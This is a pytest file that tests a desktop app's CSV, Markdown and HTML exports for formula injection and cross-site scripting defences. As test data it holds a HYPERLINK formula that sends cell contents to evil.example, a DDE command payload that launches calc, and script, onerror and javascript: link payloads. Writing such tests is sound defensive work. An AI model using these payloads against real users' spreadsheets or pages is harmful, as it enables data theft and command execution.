"""Exports that cannot be turned against their reader: formulas in CSV cells, HTML and links in Markdown."""

import csv
import io
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customer_room_desktop.domain.csv_cells import FORMULA_STARTS, guard_cell, unguard_cell
from customer_room_desktop.domain.markdown_text import markdown_text
from customer_room_desktop.services.csv_import import import_csv
from customer_room_desktop.services.minutes import find_session, gather_minutes
from customer_room_desktop.services.minutes_text import minutes_csv, to_html, to_markdown
from customer_room_desktop.services.room_builder import build_room
from customer_room_desktop.storage.captures import capture_commitment, capture_decision, start_session
from customer_room_desktop.storage.room_file import RoomFile

from .complaint_exports import CFPB_HEADINGS, cfpb_row, read_rejects, write_cfpb

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1", "-", "@HarbourlineHelp said so"]
SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
JS_LINK = "[the policy](javascript:alert(3))"


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert guard_cell(cell) == "'" + cell and unguard_cell(guard_cell(cell)) == cell


@pytest.mark.parametrize("cell", ["-12.5", "+44", "-1,250.00", "1e-3", "-3E+5", "Plain words", "", "2026-11-02",
                                  "'already text", "a=b+c", " =1+1"])
def test_numbers_and_ordinary_text_are_written_as_they_are(cell):
    assert guard_cell(cell) == cell and unguard_cell(cell) == cell


@given(st.text())
def test_no_guarded_cell_starts_a_formula_and_every_one_reads_back(text):
    guarded = guard_cell(text)
    assert not guarded.startswith(FORMULA_STARTS) or guarded.lstrip("+-").replace(".", "").isdigit()
    if not (text.startswith("'") and text[1:].startswith(FORMULA_STARTS)):
        assert unguard_cell(guarded) == text


@pytest.fixture
def room_for_import(tiny_source, tmp_path):
    with RoomFile.open(build_room(tiny_source, tmp_path / "tiny.croom")) as room:
        yield room


@pytest.fixture
def hostile_session(sample_room_copy):
    """A session whose captures hold formulas, HTML and a javascript: link."""
    with RoomFile.open(sample_room_copy) as room:
        session = find_session(room, "2026-12-monthly")
        start_session(room, session.id)
        capture_decision(room, session.id, f"Stop the {SCRIPT} and {IMG}; read {JS_LINK} and "
                                           f"[the plan](https://example.com/plan) or ![pixel](https://evil.example/p.png)")
        due = date.today() + timedelta(days=30)
        for text in FORMULAS[:4]:
            capture_commitment(room, session.id, text, "=Owner()", due)
        room.db.execute("UPDATE commitments SET text = ? WHERE text = '-2+3'", ("\t=1+1",))
        capture_commitment(room, session.id, "-12.5", "@handle", due)
        yield gather_minutes(room, session.id)


def test_the_minutes_csv_guards_every_formula_and_keeps_numbers(hostile_session):
    rows = list(csv.DictReader(io.StringIO(minutes_csv(hostile_session))))
    commitments = [row for row in rows if row["kind"] == "commitment"]
    texts = [row["item"] for row in commitments]
    assert texts == ["'" + FORMULAS[0], "'" + FORMULAS[1], "'\t=1+1", "'" + FORMULAS[3], "-12.5"]
    assert [row["who"] for row in commitments] == ["'=Owner()"] * 4 + ["'@handle"]
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values() if cell != "-12.5")


def test_markdown_minutes_show_html_as_text_and_link_only_the_web_and_mail(hostile_session):
    markdown = to_markdown(hostile_session)
    assert "<script" not in markdown and "<img" not in markdown and "[the policy](" not in markdown
    assert "&lt;script>alert(1)&lt;/script>" in markdown
    assert "\\[the policy\\](javascript:alert(3))" in markdown
    assert "[the plan](https://example.com/plan)" in markdown and "\\![pixel](https://evil.example/p.png)" in markdown
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    assert "<script" not in rendered and "<img" not in rendered
    hrefs = [piece.split('"')[1] for piece in rendered.split("href=")[1:]]
    assert hrefs == ["https://example.com/plan", "https://evil.example/p.png"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered and "[the policy](javascript:alert(3))" in rendered


def test_html_minutes_escape_what_people_typed_and_make_no_links(hostile_session):
    page = to_html(hostile_session)
    body = page.split("<body>")[1]
    assert "<script" not in body and "<img src=x" not in body and "<a " not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body and "javascript:alert(3)" in body  # shown as text


@pytest.mark.parametrize("text, expected", [
    ("a < b & c", "a &lt; b & c"),
    ("&lt;script&gt; and &#60;", "&amp;lt;script&amp;gt; and &amp;#60;"),
    ("\\[x\\](javascript:alert(1))", "\\\\\\[x\\\\\\](javascript:alert(1))"),
    ("[mail](mailto:ann@example.com) [x](HTTPS://example.com/a)", "[mail](mailto:ann@example.com) "
                                                                    "[x](HTTPS://example.com/a)"),
    ("[x](https://example.com/a b) [y](data:text/html,hi)",
     "\\[x\\](https://example.com/a b) \\[y\\](data:text/html,hi)"),
    ("[x]: javascript:alert(1)", "\\[x\\]: javascript:alert(1)"),
    ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
])
def test_markdown_text_escapes_tags_entities_and_links_it_does_not_allow(text, expected):
    assert markdown_text(text) == expected


def test_the_rejects_file_guards_formulas_and_a_fixed_one_imports_the_cells_as_they_were(room_for_import, tmp_path):
    rows = [cfpb_row(number) for number in range(5)]
    narrative = CFPB_HEADINGS.index("Consumer complaint narrative")
    rows[2] = cfpb_row(2, received="=1+1")
    rows[2][narrative] = "-2+3 is what they charged me, =HYPERLINK(\"http://evil.example\")"
    path = write_cfpb(tmp_path / "complaints.csv", rows)
    rejects = tmp_path / "rejects.csv"
    import_csv(room_for_import, "complaints", path, constants={"stage": "claim"}, skip_bad_rows=rejects)
    written = read_rejects(rejects)
    cells = written[1][2:]
    assert cells[CFPB_HEADINGS.index("Date received")] == "'=1+1"
    assert cells[narrative] == "'" + rows[2][narrative]
    cells[CFPB_HEADINGS.index("Date received")] = "2023-05-01"  # fixed by hand, then imported again
    with rejects.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([written[0], written[1][:2] + cells])
    again = import_csv(room_for_import, "complaints", rejects, constants={"stage": "claim"})
    assert again.rows == 1
    stored = room_for_import.db.execute("SELECT verbatim FROM complaints WHERE external_id = '3300002'").fetchone()
    assert stored == (rows[2][narrative],)
